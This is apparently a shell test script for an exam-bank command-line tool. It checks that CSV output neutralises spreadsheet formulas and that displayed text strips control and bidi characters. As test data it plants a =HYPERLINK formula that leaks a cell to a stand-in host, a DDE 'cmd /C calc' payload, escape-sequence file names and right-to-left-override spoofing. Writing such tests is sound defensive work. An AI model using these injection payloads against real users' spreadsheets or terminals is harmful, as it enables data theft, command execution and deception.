#!/bin/sh
# Text from files reaches CSV harmless (the OWASP formula guard, reversible)
# and reaches people without control or bidi characters (text tables,
# messages, a terminal).
. "$(dirname "$0")/lib.sh"

G="$TESTDATA/good"
C1=$(printf '\302\233')		# U+009B, the C1 form of ESC [
NEL=$(printf '\302\205')	# U+0085
RLO=$(printf '\342\200\256')	# U+202E right-to-left override
LRI=$(printf '\342\201\246')	# U+2066
FFFD=$(printf '\357\277\275')
fl init
sed -e "s|<title xml:lang=\"en\">Test module</title>|<title xml:lang=\"en\">=HYPERLINK(\"http://x.example/?\"\&amp;A1,\"ok\")</title>|" \
    -e "s|<title xml:lang=\"zh-CN\">测试模块</title>|<title xml:lang=\"zh-CN\">@SUM(1+1)${C1}31m${RLO}txt.exe</title>|" \
    "$G/mini-bank.xml" >"$TMP/bank.xml"
sed -e "s#<label xml:lang=\"en\">Calls 120</label>#<label xml:lang=\"en\">+cmd|' /C calc'!A0${NEL}${LRI}</label>#" \
    -e "s|<title xml:lang=\"en\">Test station</title>|<title xml:lang=\"en\">-2+3</title>|" \
    "$G/mini-rubric.xml" >"$TMP/rubric.xml"
sed -e "s|<title xml:lang=\"en\">Test exam</title>|<title xml:lang=\"en\">'=1+2</title>|" \
    "$G/mini-exam.xml" >"$TMP/exam.xml"
fl bank load "$TMP/bank.xml" "$TMP/rubric.xml" "$G/mini-sim.xml" "$TMP/exam.xml"
expect_rc 0 "banks with formulas, C1 and bidi characters in their texts load"

# CSV: every formula gets a leading quote; a leading quote gets another.
LC_ALL=C.UTF-8 fl bank list --format csv
has "'=HYPERLINK(" "$OUT" "bank list csv: =HYPERLINK guarded"
hasnt ",=HYPERLINK" "$OUT" "bank list csv: no bare =HYPERLINK"
LANG=zh_CN.UTF-8 LANGUAGE=zh_CN fl bank list --format csv
has "'@SUM(1+1)" "$OUT" "bank list csv (zh): @SUM guarded"
fl rubric show mini-station --format csv
has "'+cmd|' /C calc'!A0" "$OUT" "rubric show csv: a DDE label guarded"
fl rubric list --format csv
has "'-2+3" "$OUT" "rubric list csv: a leading minus guarded"
fl exam list --format csv
has "''=1+2" "$OUT" "exam list csv: a leading quote doubled (reversible)"
# Reversible: dropping one leading quote from each field gives the texts.
printf '%s\n' "$OUT" | tr -d '\r' | awk -F, 'NR > 1 { for (i = 1; i <= NF; i++) { f = $i; if (substr(f, 1, 1) == "\047") f = substr(f, 2); print f } }' >"$TMP/back"
grep -qxF "'=1+2" "$TMP/back"; ok $? "exam list csv: the reader's rule gives the title back"
fl rubric show mini-station --format csv
has ",4," "$OUT" "numbers stay numbers"

# Text tables: no C1 or bidi character, a visible U+FFFD instead.
LANG=zh_CN.UTF-8 LANGUAGE=zh_CN fl bank list
hasnt "$C1" "$OUT" "bank list text: no C1 control"
hasnt "$RLO" "$OUT" "bank list text: no bidi override"
has "@SUM(1+1)${FFFD}31m${FFFD}txt.exe" "$OUT" "bank list text: each shown as U+FFFD"
fl rubric show mini-station
hasnt "$NEL" "$OUT" "rubric show text: no NEL"
hasnt "$LRI" "$OUT" "rubric show text: no bidi isolate"

# Messages, whatever they quote: a file name with an escape and an override.
bad="$TMP/$(printf 'a\033[2Jb\342\200\256lmx.xml')"
fl bank check "$bad"
expect_rc 1 "a missing file with escapes in its name is refused"
hasnt "$(printf '\033')" "$ERR" "the message holds no escape"
hasnt "$RLO" "$ERR" "the message holds no bidi override"
has "a${FFFD}[2Jb${FFFD}lmx.xml" "$ERR" "the message shows them as U+FFFD"

# Standard output on a terminal: the same (script gives it a pty).
cp "$G/mini-bank.xml" "$TMP/$(printf 'q\302\233\342\200\256.xml')"
script -qec "\"$FIRSTLINE\" bank check $TMP/q*.xml" /dev/null >"$TMP/tty" 2>&1
tty=$(cat "$TMP/tty")
has "ok" "$tty" "bank check on a terminal says ok"
hasnt "$C1" "$tty" "terminal stdout: no C1 control"
hasnt "$RLO" "$tty" "terminal stdout: no bidi override"
# ... and to a pipe the data stays exact.
fl bank check "$TMP"/q*.xml
has "$RLO" "$OUT" "stdout to a file keeps the bytes (data, not a terminal)"

done_testing
